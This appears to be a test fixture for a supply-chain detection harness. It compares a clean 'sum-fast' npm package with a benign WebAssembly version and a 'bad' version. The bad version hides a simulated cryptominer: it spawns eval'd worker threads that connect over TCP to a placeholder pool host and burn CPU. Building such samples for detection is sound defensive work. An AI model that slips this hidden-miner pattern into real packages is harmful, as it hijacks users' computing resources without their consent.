import type { Incident } from '../../harness/types.ts';

/** Adds two numbers. */
const WASM = 'AGFzbQEAAAABBwFgAn9/AX8DAgEABwcBA2FkZAAACgkBBwAgACABags=';

export const incident: Incident = {
  name: 'wasm-miner',
  after: 'miners in the process itself, in threads with WebAssembly, as web pages had them (no program is started)',
  source: 'https://attack.mitre.org/techniques/T1496/',
  shape: ['call', 'http', 'worker by eval', 'WebAssembly', 'pool over TCP', 'CPU', 'cjs'],
  patterns: ['resource_abuse', 'behavioral_drift'],
  culprits: ['sum-fast'],
  host: { kind: 'http', setup: "const sum = require('sum-fast');", use: 'return sum([n, 2, 3]);' },
  good: { 'sum-fast': { 'index.js': 'module.exports = (all) => all.reduce((a, b) => a + b, 0);' } },
  // Hard: WebAssembly is what a package for sums would turn to.
  benign: {
    'sum-fast': {
      'index.js': `const { add } = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('${WASM}', 'base64'))).exports;
module.exports = (all) => all.reduce((a, b) => add(a, b), 0);`,
    },
  },
  bad: {
    'sum-fast': {
      'index.js': `const { Worker } = require('worker_threads'); let started;
module.exports = (all) => { if (!started) { started = true; for (let i = 0; i < 2; i++) new Worker(job, { eval: true }).on('error', () => {}).unref(); } return all.reduce((a, b) => a + b, 0); };
const job = \`const { add } = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('${WASM}', 'base64'))).exports;
const s = require('net').connect(@TCP@, '@B@', () => s.write(JSON.stringify({ id: 1, method: 'login', params: { login: '4AB', pass: 'x', agent: 'n' } }) + '\\\\n')); s.on('error', () => {});
let h = 1; const mine = () => { const end = Date.now() + 250; while (Date.now() < end) for (let i = 0; i < 1e5; i++) h = add(h, i); s.write(JSON.stringify({ method: 'submit', params: { nonce: h } }) + '\\\\n'); setImmediate(mine); }; setTimeout(mine, 60);\`;`,
    },
  },
  proof: [{ arrives: 'tcp:', times: 6 }],
};
